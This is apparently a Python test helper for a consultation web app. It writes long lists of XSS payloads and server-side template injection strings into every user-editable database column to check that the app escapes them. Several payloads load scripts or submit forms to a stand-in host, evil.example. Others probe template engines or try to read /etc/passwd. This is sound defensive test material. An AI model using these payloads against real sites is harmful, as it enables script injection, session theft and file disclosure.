"""Words that would be markup, a script or a formula of a template, wherever they were let through.

`written` puts words into every column that a person can fill, found by walking the tables: a new
column is filled by itself, and one that nobody writes is named here.
"""

import re
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from sqlalchemy import JSON, Column, Enum, Table, Text, select, text, update

from consultation import models
from consultation.db import Base, session
from consultation.operations.audit import record
from tests.conftest import NOW

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset=//evil.example/p.png>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>a</math>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf_token><button>Save</button></form>",
    "<button formaction=//evil.example>Save</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) tabindex=1>a</x>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='java&#115;cript:alert(1)'>a</a>",
    "<a href=data:text/html,<script>alert(1)</script>>a</a>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1)",
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "{{constructor.constructor('alert(1)')()}}",
)

SUM = "54439"
"""What the templates would make of 7 times 7777."""

TEMPLATES = (
    "{{7*7777}}",
    "{{ 7*7777 }}",
    "{%print(7*7777)%}",
    "{% raw %}",
    "{% endraw %}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{url_for.__globals__}}",
    "{# gone #}",
    "${7*7777}",
    "#{7*7777}",
    "*{7*7777}",
    "@(7*7777)",
    "<%= 7*7777 %>",
    "<#assign x=7*7777>${x}",
    "%(name)s %s {0} {0.__class__} $name",
    "#sys.version",
    '#eval("7*7777")',
    '#read("/etc/passwd")',
    "#let x = 7*7777; #x",
    "#{7*7777} $7 dot 7777$",
    "\\input{/etc/passwd}",
    "MERGEFIELD { =7*7777 }",
)

PAYLOADS = SCRIPTS + TEMPLATES

HAS_FIELDS = {"summary.text"}
"""Columns whose braces are fields of ours: braces that are none are saved with a mark before."""

EITHER = {"matter.body": "group_id"}
"""Columns that are filled where another one is not."""

NOT_TYPED = {
    "analysis.settings", "answer_version.language", "audit_entry.hash", "audit_entry.previous",
    "attempt.account", "attempt.address", "attempt.kind", "campaign_copy.additions",
    "answer_version.pages", "audit_entry.action", "audit_entry.after", "audit_entry.before",
    "audit_entry.reason", "audit_entry.salt", "audit_entry.subject", "audit_entry.words",
    "consultation.languages", "consultation.time_zone", "eligibility.email",
    "eligibility.link_hash", "find.kind",
    "invitation.email", "moderation_rules.sha256", "redaction.kind", "stakeholder.pseudonym",
    "invitation.link_hash", "mail.error", "mail.key",
    "mail.message_id", "mail.path", "mail.subject", "mail.text", "mail.to", "paper.sha256",
    "person.calendar_hash",
    "person.email", "person.password_hash", "person.session_key", "person.totp_secret",
    "point.language", "provision.key", "receipt.content_hash", "receipt.idempotency_key",
    "privacy_notice.sha256", "receipt.version_ids",
    "recovery_code.hash", "sign_off.state", "sign_off.state_hash",
    "stakeholder.code_hash", "stakeholder.notice_hash", "submission.salt", "token.email",
    "token.hash", "token.leads_to", "token.password_hash",
}  # fmt: skip
"""Columns that hold what the machine makes, or an address whose shape is checked. The log refuses
to be changed, and the mails are written from the rest: both are made anew."""


def hostile(turn: int) -> str:
    """Every payload in one line of text; each `turn` begins with another, for what is cut short."""
    at = turn % len(PAYLOADS)
    return " ".join(" ".join(payload.split()) for payload in PAYLOADS[at:] + PAYLOADS[:at])


def harmless(turn: int) -> str:
    """As many words, each as long, and letters only."""
    return re.sub(r"[^\w\s]|_", "x", hostile(turn))


def typed_columns() -> list[Column[Any]]:
    """Every column that holds what somebody wrote."""
    return [
        column
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, Text | JSON)
        and not isinstance(column.type, Enum)
        and str(column) not in NOT_TYPED
    ]


def let_everything_be_written() -> None:
    """Take away what keeps rows as they were made: here they are made in two steps."""
    names = session.scalars(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all()
    for name in names:
        session.execute(text(f'DROP TRIGGER "{name}"'))


def write_everywhere(words: Callable[[int], str]) -> None:
    """Fill every row's typed columns; what is empty because it may be stays so."""
    for turn, column in enumerate(typed_columns()):
        marked = str(column) in HAS_FIELDS
        table: Table = column.table
        for number, kept in _rows(column):
            if kept is not None:
                said = words(11 * turn + 5 * number)
                said = said.replace("{{", r"\{{") if marked else said
                value = _in(kept, said) if isinstance(column.type, JSON) else _unlike(said, number)
                session.execute(update(table).where(table.c.id == number).values({column: value}))
    session.expire_all()
    for version in session.scalars(select(models.AnswerVersion)):
        version.proposed = words(3)
    for number, point in enumerate(session.scalars(select(models.Point))):
        point.start, point.end = number, len(point.answer.text)


def _rows(column: Column[Any]) -> list[Any]:
    """The rows that a column may be filled in: their numbers, and what they hold."""
    table: Table = column.table
    rows = select(table.c.id, column)
    if str(column) in EITHER:
        rows = rows.where(table.c[EITHER[str(column)]].is_(None))
    return list(session.execute(rows).all())


def _unlike(said: str, number: int) -> str:
    """The same words in no two rows, for names that must differ."""
    return f"{said} no{number}"


def _in(kept: Any, said: str) -> Any:
    """The same value with other words in it."""
    if isinstance(kept, str):
        return said
    if isinstance(kept, dict):
        return {name: _in(value, said) for name, value in kept.items()}
    if isinstance(kept, list):
        return [_in(value, said) for value in kept] or [said]
    return kept


def add_what_else_people_write(now: datetime = NOW) -> None:
    """Rows that the stage of the matrix does without: notes, outcomes, an extension and more."""
    theme, other = session.scalars(select(models.Theme).order_by(models.Theme.id)).all()[:2]
    point = session.scalars(select(models.Point).order_by(models.Point.id)).first()
    question, person = theme.question, session.scalars(select(models.Person)).first()
    assert point is not None
    assert person is not None
    round_, answer = question.round, point.answer
    for choice in session.scalars(
        select(models.OpenQuestion).where(
            models.OpenQuestion.on_whole_draft.is_(False),
            models.OpenQuestion.comments_on_id.is_(None),
            models.OpenQuestion.id != question.id,
        )
    ):
        choice.kind, choice.options = models.QuestionKind.CHOICE, ["One", "Two"]
    for version in session.scalars(select(models.AnswerVersion)):
        version.annex, version.proposed = "For the chairs.", "It reads so."
    session.add_all(
        [
            models.Outcome(
                theme_id=theme.id, kind=models.OutcomeKind("adopted in part"), reason="Half of it.",
                decided_by=person, decided_at=now,
            ),
            models.Note(
                stakeholder=answer.submission.stakeholder, question=question, person=person,
                text="Look here.", written_at=now,
            ),
            models.Extension(
                round=round_, was=round_.closes_at - timedelta(hours=1), closes_at=round_.closes_at,
                reason="The site was down.", by=person, at=now,
            ),
            models.Subtheme(theme=theme, title="A part of it"),
            models.Recurrence(theme=theme, stability=0.8, nearest=other),
            models.MinorityPoint(point=point, theme=theme, reason="One alone", rank=1),
            models.MinorityNote(
                point=point, reason="One alone", found_in="Some of it", note="Heard with the rest",
                noted_by=person, noted_at=now,
            ),
            models.Campaign(question=question, template="Copy this."),
            models.Meeting(
                round=round_, kind=models.MeetingKind.PLENARY, title="The plenary", held_at=now,
            ),
        ]
    )  # fmt: skip


def note_in_the_log(words: Callable[[int], str], now: datetime = NOW) -> None:
    """An act whose every part is words of somebody's."""
    question = session.scalars(select(models.Theme).order_by(models.Theme.id)).first().question
    person = session.scalars(select(models.Person)).first()
    named = {"title": words(1), "points": [words(2), words(3)]}
    record(
        "rename theme", question, person=person, now=now, before=named, after=named,
        reason=words(4), question=question,
    )  # fmt: skip
